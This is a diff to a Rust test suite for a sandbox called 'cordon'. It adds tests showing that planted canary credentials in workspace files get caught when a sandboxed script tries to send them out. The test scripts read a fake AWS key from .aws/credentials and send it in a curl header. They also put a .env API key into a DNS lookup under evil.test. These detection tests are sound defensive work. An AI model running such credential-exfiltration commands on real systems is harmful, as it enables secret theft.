@@ -2799,8 +2799,14 @@ impl Webhook {
 
 /// The checks every stopping detection shares: exit 137, the reason in the result, on stderr
 /// and in the session's end record, one `alert` audit event for `rule`, one webhook POST with
-/// the session's attribution.
-fn assert_terminated_by(net: &FakeNet, r: &Ran, hook: &Webhook, rule: &str, reason_start: &str) {
+/// the session's attribution. Returns the webhook's payload.
+fn assert_terminated_by(
+    net: &FakeNet,
+    r: &Ran,
+    hook: &Webhook,
+    rule: &str,
+    reason_start: &str,
+) -> Value {
     let session = r.session();
     assert_eq!(r.status, 137, "{}\n{}", r.stdout, r.stderr);
     assert_eq!(r.result["exit_status"], 137);
@@ -2844,6 +2850,7 @@ fn assert_terminated_by(net: &FakeNet, r: &Ran, hook: &Webhook, rule: &str, reas
     assert_eq!(p["rule"], rule);
     assert_eq!(p["summary"], reason.as_str());
     assert!(p["evidence"].is_object(), "{p}");
+    p.clone()
 }
 
 /// A DNS-tunnel loop: one lookup per chunk of "stolen" data under evil.test, each name new.
@@ -3036,6 +3043,198 @@ fn a_honey_token_in_a_header_ends_the_session_before_the_request_leaves() {
     );
 }
 
+/// The canary files a test policy plants: one of each shape.
+const CANARY_FILES: &str = "files = [\".env\", \".aws/credentials\", \".netrc\", \".ssh/id_ed25519\", \".config/gcloud/application_default_credentials.json\"]\n";
+
+/// Paths under the host workspace that no canary file may leave behind.
+fn canary_leftovers(ws: &Path) -> Vec<PathBuf> {
+    [".env", ".aws", ".netrc", ".ssh", ".config"]
+        .iter()
+        .map(|p| ws.join(p))
+        .filter(|p| p.symlink_metadata().is_ok())
+        .collect()
+}
+
+/// The token the sandboxed script printed as `token=…` (so the test knows it).
+fn printed_token(r: &Ran) -> String {
+    r.stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("token="))
+        .unwrap_or_else(|| panic!("no token printed: {}", r.stdout))
+        .to_string()
+}
+
+/// A token read from a canary file must never be written anywhere cordon writes: the result,
+/// stderr, the webhook, the audit (every record of the session, as exported).
+fn assert_token_nowhere(net: &FakeNet, r: &Ran, posted: &[Value], token: &str) {
+    assert!(token.len() >= 20, "{token:?}");
+    let lower = token.to_lowercase();
+    let export = net.audit(&["export", "--session", &r.session()]);
+    assert!(export.status.success(), "{}", export.stderr);
+    for (what, text) in [
+        ("result", r.result.to_string()),
+        ("stderr", r.stderr.clone()),
+        ("webhook", format!("{posted:?}")),
+        ("audit", export.stdout.clone()),
+    ] {
+        assert!(
+            !text.contains(token) && !text.to_lowercase().contains(&lower),
+            "the canary token is in the {what}:\n{text}"
+        );
+    }
+}
+
+/// Workspace canary files: a script reads the fake AWS key id from `.aws/credentials` and sends
+/// it in a SigV4-style header, or puts the `.env` API key in a DNS name. Either ends the session
+/// with the canary rule before anything leaves (the origin and the upstream DNS server never see
+/// it), the alert names the file and not the token, and the host workspace directory has no
+/// canary file afterwards.
+#[test]
+fn a_workspace_canary_token_in_a_header_or_a_dns_name_ends_the_session_and_stays_off_the_host() {
+    let Some(net) = enter(
+        "a_workspace_canary_token_in_a_header_or_a_dns_name_ends_the_session_and_stays_off_the_host",
+    ) else {
+        return;
+    };
+    let ws = net.workspace();
+    assert_eq!(canary_leftovers(&ws), Vec::<PathBuf>::new());
+    let hook = Webhook::start();
+    let policy = format!("{}[detect.canary]\n{CANARY_FILES}", hook.policy());
+
+    // The header: the access key id, as an AWS client would send it.
+    let script = "key=$(sed -n 's/^aws_access_key_id = //p' /workspace/.aws/credentials); \
+                  test ${#key} -eq 20 || exit 3; echo \"token=$key\"; \
+                  curl -s -o /dev/null -H \"Authorization: AWS4-HMAC-SHA256 Credential=$key/20260101/us-east-1/s3/aws4_request\" \
+                  http://api.fake.test/innocent; sleep 5; echo survived";
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(&policy)
+        .allow(&["api.fake.test:80"])
+        .run(&["sh", "-c", script]);
+    let posted = assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "canary",
+        "canary credential from workspace file .aws/credentials sent out (request head)",
+    );
+    assert_eq!(posted["severity"], "critical");
+    assert_eq!(posted["evidence"]["file"], ".aws/credentials");
+    let fired = &r.result["alerts"][0];
+    assert_eq!(fired["severity"], "critical");
+    assert_eq!(fired["evidence"]["file"], ".aws/credentials");
+    assert!(!r.stdout.contains("survived"));
+    assert!(
+        net.seen_since(mark, "http").is_empty(),
+        "the token reached the origin: {:?}",
+        net.seen_since(mark, "http")
+    );
+    let token = printed_token(&r);
+    assert!(token.starts_with("AKIA"), "{token}");
+    assert_token_nowhere(&net, &r, &[posted], &token);
+    let files: Vec<&str> = r.result["canaries"]["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(files.len(), 5, "{}", r.result);
+    let events = net.audit_events(&r.session());
+    let start = &records(&events, "session_start", None)[0];
+    assert_eq!(
+        start["detail"]["canaries"]["files"]
+            .as_array()
+            .unwrap()
+            .len(),
+        5
+    );
+    assert_eq!(
+        canary_leftovers(&ws),
+        Vec::<PathBuf>::new(),
+        "a canary file reached the host workspace"
+    );
+
+    // The DNS name: the `.env` API key (mixed case; the name arrives lower-cased).
+    let script = r#"
+import socket, time
+key = [l.split("=", 1)[1].strip() for l in open("/workspace/.env") if l.startswith("API_KEY=")][0]
+assert key != key.lower() and len(key) == 40
+print("token=" + key, flush=True)
+try:
+    socket.getaddrinfo(f"{key}.evil.test", 80)
+except OSError:
+    pass
+time.sleep(5)
+print("survived", flush=True)
+"#;
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(&policy)
+        .allow(&["api.fake.test:80"])
+        .run(&[PY, "-c", script]);
+    let posted = assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "canary",
+        "canary credential from workspace file .env sent out (dns name)",
+    );
+    assert_eq!(r.result["alerts"][0]["evidence"]["file"], ".env");
+    assert!(!r.stdout.contains("survived"));
+    let token = printed_token(&r);
+    assert_token_nowhere(&net, &r, &[posted], &token);
+    let asked: Vec<Value> = net.seen_since(mark, "dns");
+    assert!(
+        !format!("{asked:?}")
+            .to_lowercase()
+            .contains(&token.to_lowercase()),
+        "the upstream DNS server heard the token: {asked:?}"
+    );
+    assert_eq!(canary_leftovers(&ws), Vec::<PathBuf>::new());
+}
+
+/// A host workspace that already has a file where a canary would go keeps it: the canary is
+/// skipped (the run says so) and the host's file is neither replaced nor lost.
+#[test]
+fn a_canary_file_never_replaces_a_file_of_the_host_workspace() {
+    let Some(net) = enter("a_canary_file_never_replaces_a_file_of_the_host_workspace") else {
+        return;
+    };
+    let ws = net.workspace();
+    std::fs::write(ws.join(".env"), "REAL_SETTING=1\n").unwrap();
+    let r = net
+        .cordon()
+        .policy("[detect.canary]\nfiles = [\".env\", \".aws/credentials\"]\n")
+        .run(&[
+            "sh",
+            "-c",
+            "cat /workspace/.env; test -s /workspace/.aws/credentials && echo planted",
+        ])
+        .ok();
+    assert!(
+        r.stdout.starts_with("REAL_SETTING=1\nplanted"),
+        "{}",
+        r.stdout
+    );
+    assert_eq!(
+        r.result["canaries"]["skipped"],
+        serde_json::json!([{"path": ".env", "reason": "the workspace already has a file at .env; it is kept as it is"}])
+    );
+    assert!(
+        r.stderr.contains("cordon: warning: canary file .env not planted: the workspace already has a file at .env; it is kept as it is"),
+        "{}",
+        r.stderr
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".env")).unwrap(),
+        "REAL_SETTING=1\n"
+    );
+    assert!(!ws.join(".aws").exists());
+    std::fs::remove_file(ws.join(".env")).unwrap();
+}
+
 #[test]
 fn a_fork_bomb_fires_the_sandbox_rule_and_is_stopped() {
     let Some(net) = enter("a_fork_bomb_fires_the_sandbox_rule_and_is_stopped") else {
@@ -3142,15 +3341,29 @@ print("ok", ok)
     } else {
         eprintln!("SKIPPED pip part of benign_workloads_are_not_flagged: {PY} has no pip");
     }
+    // With honey tokens present, as a careful operator would run them: a variable and one file
+    // of each shape (HOME is /workspace, so pip's own HTTP library sees the .netrc).
+    let benign_policy = format!(
+        "{}[detect.canary]\nenv = [\"AWS_SECRET_ACCESS_KEY\"]\n{CANARY_FILES}",
+        hook.policy()
+    );
     let (mut runs, mut flagged) = (0, 0);
     for (name, argv, expect) in &workloads {
         for _ in 0..3 {
             let r = net
                 .cordon()
-                .policy(&hook.policy())
+                .policy(&benign_policy)
                 .allow(&["api.fake.test:80", "pypi.fake.test"])
                 .run(argv)
                 .ok();
+            // Honey tokens in the environment and in every canary file shape were there.
+            assert_eq!(
+                r.result["canaries"]["files"].as_array().map(Vec::len),
+                Some(5),
+                "{}",
+                r.result
+            );
+            assert_eq!(canary_leftovers(&net.workspace()), Vec::<PathBuf>::new());
             assert!(
                 r.stdout.contains(expect),
                 "{name}: {}\n{}",
